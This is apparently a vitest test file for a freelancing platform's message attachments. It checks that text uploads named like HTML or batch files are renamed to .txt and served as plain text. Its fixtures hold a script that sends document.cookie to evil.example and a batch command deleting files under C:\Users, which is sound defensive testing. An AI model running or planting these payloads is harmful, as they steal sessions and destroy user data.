import { eq } from 'drizzle-orm'
import { describe, expect, it } from 'vitest'
import { getDb } from '~/models/db.server'
import { uploads } from '~/models/schema'
import { listMessages } from '~/models/conversations.server'
import { action as conversationAction } from '~/routes/_portal.messages.$conversationId'
import { loader as fileLoader } from '~/routes/_portal.messages.$conversationId.files.$uploadId'
import { openConversationFor } from '~/services/messaging/messaging.server'
import { hireBetweenNewUsers } from './escrow-fixtures'
import { getRequest, run } from './requests'
import { signedInCookie } from './users'

/*
 * An upload is typed by its bytes, and text passes as plain text whatever its name says. Named
 * "invoice.html" or "setup.bat", it downloaded under that name: opened from the downloads folder,
 * the page ran its script and the batch file its commands, sent through MegiLance by a stranger.
 * The name a file is shown and saved under now ends in an extension its bytes agree with.
 */

function multipart(path: string, cookie: string, files: { name: string; text: string }[]) {
  const form = new FormData()
  form.set('body', 'The invoice and the installer')
  for (const file of files) form.append('files', new File([file.text], file.name, { type: 'text/html' }))
  return new Request(`http://localhost${path}`, { method: 'POST', headers: { cookie }, body: form })
}

describe('a text file named like a page or a program', () => {
  it('is shown and saved with .txt after its name; a text name it fits is kept', async () => {
    const { client, freelancer, contract } = await hireBetweenNewUsers(
      { type: 'fixed', title: 'Shop contract', projectTitle: 'Build a shop', amountMinor: 90_000 },
      { client: 'Clara Test', freelancer: 'Felix Test' },
    )
    const conversation = (await openConversationFor('proposal', contract.proposalId, freelancer.id))!
    const conversationId = conversation.id
    const sent = await run(
      conversationAction,
      multipart(`/messages/${conversationId}`, await signedInCookie(freelancer.id), [
        { name: 'invoice.html', text: '<script>fetch("https://evil.example/?c="+document.cookie)</script>' },
        { name: 'setup.BAT', text: 'del /q C:\\Users\\*' },
        { name: 'notes.md', text: '# Scope' },
      ]),
      { conversationId },
    )
    expect(sent.status).toBe(302)
    const [message] = await listMessages(conversationId)
    expect(message?.attachments.map((file) => file.name)).toEqual(['invoice.html.txt', 'setup.BAT.txt', 'notes.md'])

    const clientCookie = await signedInCookie(client.id)
    const names = []
    for (const { uploadId } of message!.attachments) {
      const download = await run(fileLoader, getRequest('/', clientCookie), { conversationId, uploadId })
      expect(download.headers.get('content-type')).toBe('text/plain')
      names.push(download.headers.get('content-disposition'))
    }
    expect(names).toEqual([
      "attachment; filename*=UTF-8''invoice.html.txt",
      "attachment; filename*=UTF-8''setup.BAT.txt",
      "attachment; filename*=UTF-8''notes.md",
    ])

    // A file stored under its given name before this: saved as .txt all the same.
    const [first] = message!.attachments
    getDb().update(uploads).set({ originalName: 'old-page.svg' }).where(eq(uploads.id, first!.uploadId)).run()
    const old = await run(fileLoader, getRequest('/', clientCookie), { conversationId, uploadId: first!.uploadId })
    expect(old.headers.get('content-disposition')).toBe("attachment; filename*=UTF-8''old-page.svg.txt")
  })
})
